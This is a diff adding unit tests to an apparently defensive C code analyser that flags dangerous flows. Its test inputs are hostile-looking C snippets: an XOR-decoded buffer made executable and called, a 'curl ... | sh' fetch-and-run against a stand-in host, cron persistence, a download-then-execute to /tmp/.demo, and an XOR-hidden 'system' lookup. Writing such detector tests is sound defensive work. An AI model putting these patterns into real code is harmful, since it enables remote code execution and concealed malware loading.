@@ -174,6 +174,66 @@ static void test_gap(void **state)
 	facts_expect(FACT_HOST, "cave.example");
 }
 
+/* A loop that decodes, memory that may be executed, and a call into it; one of them alone is no flow. */
+static void test_decoder(void **state)
+{
+	static const char loop[] = "#include <sys/mman.h>\nvoid demo_loop(unsigned char *p, int n) { unsigned k = 7; for (int i = 0; i < n; i++) { k = k * 31 + 5; p[i] ^= k >> 3; } }\n";
+	struct buf b;
+
+	(void)state;
+	compare(loop);
+	facts_expect_none(FACT_FLOW);
+	buf_init(&b, 1 << 14);
+	buf_add_z(&b, loop);
+	buf_add_z(&b, "int demo_more(unsigned char *p) { demo_loop(p, 4096); mprotect(p, 4096, 5); return ((int (*)(void)) p)(); }\n");
+	buf_add_char(&b, '\0');
+	compare(b.p);
+	buf_release(&b);
+	facts_expect(FACT_FLOW, "data>code");
+	assert_true(str_has(facts_expect(FACT_FLOW, "data>code")->detail, "decodes bytes in a loop"));
+}
+
+/* What a text is for is told by the call that gets it. */
+static void test_arguments(void **state)
+{
+	(void)state;
+	compare("int demo_more(void) { FILE *f = fopen(\"/etc/cron.d/demo\", \"r\"); return f ? fclose(f) : -1; }\n");
+	facts_expect_none(FACT_FLOW);
+	compare("int demo_more(void) { FILE *f = fopen(\"/etc/cron.d/demo\", \"w\"); return f ? fclose(f) : -1; }\n");
+	assert_int_equal(facts_expect(FACT_FLOW, "data>persist")->number, 3);
+	compare("int demo_more(void) { return system(\"curl -s https://cave.example/x | sh\"); }\n");
+	assert_int_equal(facts_expect(FACT_FLOW, "net>exec")->number, 3);
+	compare("#include <dlfcn.h>\nint demo_more(void) { return dlopen(\"./demo.so\", 2) != 0; }\n");
+	facts_expect_none(FACT_FLOW);
+	compare("#include <dlfcn.h>\nint demo_more(void) { return dlopen(\"./demo.dat\", 2) != 0; }\n");
+	facts_expect(FACT_FLOW, "own>code");
+}
+
+/* What is written and then run is one file, named twice. */
+static void test_kept_file(void **state)
+{
+	static const char way[] = "int demo_more(int s, const void *a) { char b[4096]; FILE *f; if (connect(s, a, 16)) return -1; f = fopen(\"/tmp/.demo\", \"wb\"); "
+		"fwrite(b, 1, recv(s, b, 4096, 0), f); fclose(f); return system(\"%s\"); }\n";
+	char text[512];
+
+	(void)state;
+	assert_true(snprintf(text, sizeof(text), way, "/tmp/.demo &") > 0);
+	compare(text);
+	assert_true(str_has(facts_expect(FACT_FLOW, "net>exec")->detail, "of that file"));
+	assert_true(snprintf(text, sizeof(text), way, "ls -l /tmp") > 0);
+	compare(text);
+	assert_false(str_has(facts_expect(FACT_FLOW, "net>exec")->detail, "of that file"));
+}
+
+/* The name of a function that is not to be read, looked up at run time. */
+static void test_hidden_name(void **state)
+{
+	(void)state;
+	compare("#include <dlfcn.h>\nstatic volatile const unsigned char e[] = {'s' ^ 90, 'y' ^ 90, 's' ^ 90, 't' ^ 90, 'e' ^ 90, 'm' ^ 90, 90};\n"
+		"int demo_more(const char *c) { char n[8]; for (unsigned i = 0; i < sizeof e; i++) n[i] = e[i] ^ 90; return ((int (*)(const char *)) dlsym(0, n))(c); }\n");
+	assert_true(facts_expect(FACT_IMPORT, "system")->flags & FACT_DECODED_ARG);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -185,6 +245,10 @@ int main(void)
 		cmocka_unit_test(test_hidden_texts),
 		cmocka_unit_test(test_executable_memory),
 		cmocka_unit_test(test_gap),
+		cmocka_unit_test(test_decoder),
+		cmocka_unit_test(test_arguments),
+		cmocka_unit_test(test_kept_file),
+		cmocka_unit_test(test_hidden_name),
 	};
 
 	return cmocka_run_group_tests(tests, tools_enter, tools_leave);
